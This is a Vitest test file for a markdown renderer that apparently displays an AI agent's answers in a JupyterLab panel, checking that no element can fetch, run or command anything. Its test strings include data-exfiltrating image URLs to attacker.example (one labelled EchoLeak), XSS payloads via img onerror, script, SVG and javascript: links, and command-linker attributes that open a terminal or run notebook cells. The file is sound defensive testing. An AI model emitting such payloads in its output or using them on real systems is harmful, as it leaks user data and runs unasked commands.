import { describe, expect, it } from 'vitest';

import { renderMarkdown } from '../src/markdown';

/** The rendered answer as a DOM tree, the way the panel shows it. */
function render(markdown: string): HTMLDivElement {
  const host = document.createElement('div');
  host.innerHTML = renderMarkdown(markdown);
  return host;
}

/** Elements or attributes that fetch, run or command anything. */
function active(host: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of Array.from(host.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    if (['a', 'img', 'script', 'iframe', 'object', 'embed', 'style', 'link', 'form', 'input', 'button', 'svg', 'video', 'audio', 'source', 'picture', 'meta', 'base'].includes(tag)) {
      found.push(tag);
    }
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name !== 'class' && name !== 'align' && name !== 'start') {
        found.push(`${tag}[${name}]`);
      }
    }
  }
  return found;
}

describe('renderMarkdown', () => {
  it('keeps ordinary formatting', () => {
    const host = render('# Title\n\nSome **bold**, `code` and a list:\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(host.querySelector('h1')?.textContent).toBe('Title');
    expect(host.querySelector('strong')?.textContent).toBe('bold');
    expect(host.querySelectorAll('li')).toHaveLength(2);
    expect(host.querySelectorAll('td')).toHaveLength(2);
    expect(active(host)).toEqual([]);
  });

  it('does not load a remote image, and says so in text', () => {
    const host = render('Look: ![chart](https://attacker.example/leak.png?d=SECRET)');
    expect(active(host)).toEqual([]);
    expect(host.innerHTML).not.toContain('<img');
    expect(host.textContent).toContain('image “chart” from https://attacker.example/leak.png?d=SECRET not loaded');
  });

  it('does not load a reference-style image (EchoLeak)', () => {
    const host = render('Summary ![logo][ref]\n\n[ref]: https://attacker.example/x.png?q=data "t"');
    expect(active(host)).toEqual([]);
    expect(host.textContent).toContain('not loaded');
    expect(host.textContent).not.toContain('[ref]:');
  });

  it('shows raw <img> HTML as text, never as an element', () => {
    const host = render('<img src="https://attacker.example/a.png" onerror="alert(1)">\n\ninline <img src=x onerror=alert(1)> too');
    expect(active(host)).toEqual([]);
    expect(host.textContent).toContain('<img src="https://attacker.example/a.png" onerror="alert(1)">');
  });

  it('shows <script> as text and runs nothing', () => {
    const host = render('<script>window.pwned = 1</script>\n\nText <script>window.pwned = 2</script>');
    expect(active(host)).toEqual([]);
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
    expect(host.textContent).toContain('<script>window.pwned = 1</script>');
  });

  it('neutralises command-linker attributes', () => {
    const host = render(
      '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">Open</button>\n\n' +
        'and <span data-commandlinker-command="notebook:run-all-cells">run</span>'
    );
    expect(active(host)).toEqual([]);
    expect(host.querySelector('[data-commandlinker-command]')).toBeNull();
    expect(host.innerHTML).not.toMatch(/<[^>]+data-commandlinker/);
  });

  it('turns links into text with the URL shown, never an anchor', () => {
    const host = render(
      '[docs](https://pandas.pydata.org/docs/) and <https://auto.example/p> and https://bare.example/q?x=1 ' +
        'and [js](javascript:alert(1)) and [ref link][r]\n\n[r]: http://ref.example/'
    );
    expect(active(host)).toEqual([]);
    const text = host.textContent ?? '';
    expect(text).toContain('docs (https://pandas.pydata.org/docs/)');
    expect(text).toContain('https://auto.example/p');
    expect(text).toContain('https://bare.example/q?x=1');
    expect(text).toContain('js (javascript:alert(1))');
    expect(text).toContain('ref link (http://ref.example/)');
  });

  it('keeps code blocks as escaped text with a safe language class', () => {
    const host = render('```python" onmouseover="alert(1)\nprint("<b>hi</b>")\n```');
    const code = host.querySelector('pre code');
    expect(code?.textContent).toBe('print("<b>hi</b>")');
    expect(code?.getAttribute('class')).toBe('language-python');
    expect(active(host)).toEqual([]);
  });

  it('gives no element a class the model chose, even one styled like ours', () => {
    const host = render('<span class="jp-DSAgent-url jp-mod-hidden">x</span>\n\n```bash\nls\n```');
    expect(host.querySelector('.jp-mod-hidden, .jp-DSAgent-url')).toBeNull();
    expect(host.textContent).toContain('<span class="jp-DSAgent-url jp-mod-hidden">x</span>');
    expect(host.querySelector('code')?.className).toBe('language-bash');
  });

  it('neutralises SVG, iframes, forms, styles and event handlers written as HTML', () => {
    const host = render(
      '<svg onload="alert(1)"><image href="https://x.example/a"/></svg>\n\n<iframe src="https://x.example"></iframe>\n\n' +
        '<form action="https://x.example"><input name="q"></form>\n\n<style>body{background:url(https://x.example/b)}</style>\n\n' +
        '<div onclick="alert(1)" style="background:url(https://x.example/c)">x</div>'
    );
    expect(active(host)).toEqual([]);
  });
});
